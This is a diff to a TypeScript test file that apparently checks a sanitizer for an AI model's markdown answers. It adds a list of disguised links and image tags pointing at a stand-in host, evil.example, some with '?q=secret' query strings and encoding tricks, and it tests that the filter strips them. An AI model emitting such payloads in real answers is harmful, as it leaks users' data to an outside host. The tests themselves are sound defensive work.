@@ -129,6 +129,43 @@ describe('the tools of the model', () => {
   });
 });
 
+test.each([
+  'x [a](/[[a|b|1]]/evil.example) y',
+  'x h[[a|b|1]]ttps:[[a|b|1]]//evil.example y',
+  '[a](/&#47;evil.example)',
+  '[a](/&#x2f;evil.example)',
+  '[a](&sol;&sol;evil.example)',
+  '[a](/&Tab;/evil.example)',
+  'https&colon;//evil.example',
+  '<https:evil.example>',
+  '<http:evil.example/?q=secret>',
+  'www.evil.example/?q=secret',
+  '> [a]: //evil.example',
+  '- [a]: https:evil.example',
+  '<img src="//evil.example/?q=secret">',
+  '<img src=//evil/?q=secret>',
+  '<img src="https&#58;//evil.example">',
+  '<img src="https&#58//evil.example">',
+  'see //evil.example/?q=secret',
+  '<mailto:evil@evil.example>',
+])('an address that is put together or spelled in another way is taken out: %s', async (wrote) => {
+  const { answer } = await ask([{ say: `${good}\n\n${wrote}` }]);
+  expect(answer.markdown).toContain(goodMarkdown);
+  expect(answer.markdown).not.toMatch(/[/:@.]evil\b/);
+});
+
+test.each([
+  'a // b.c',
+  'std::vector<std::string>',
+  '[key: string]: number',
+  'a ? b : c',
+  'Map<string, data>',
+  'fish &amp; chips',
+])('what is no address stays: %s', async (wrote) => {
+  const { answer } = await ask([{ say: `${good}\n\nx ${wrote} y` }]);
+  expect(answer.markdown).toBe(`${goodMarkdown}\n\nx ${wrote} y`);
+});
+
 describe('a model that fails', () => {
   const failures: [string, Reply, string][] = [
     ['is not there', { reset: true }, 'it could not be reached'],
@@ -155,6 +192,11 @@ describe('a model that fails', () => {
   test('one that never ends is stopped by the time that the work has', async () => {
     const { answer } = await ask([{ hang: 'before' }], { work: work({ maxSeconds: 0.2 }) });
     expect(answer.markdown).toContain('(it took too long)');
+  });
+
+  test('one that says more than is taken is stopped, however fast it goes on', async () => {
+    const { answer } = await ask([{ endless: 'word '.repeat(1000) }], { settings: { maxResponseBytes: 1_000_000 } });
+    expect(answer.markdown).toContain('(one of its responses has more than 1000000 bytes)');
   });
 
   test('a caller who cancels gets no other answer instead', async () => {
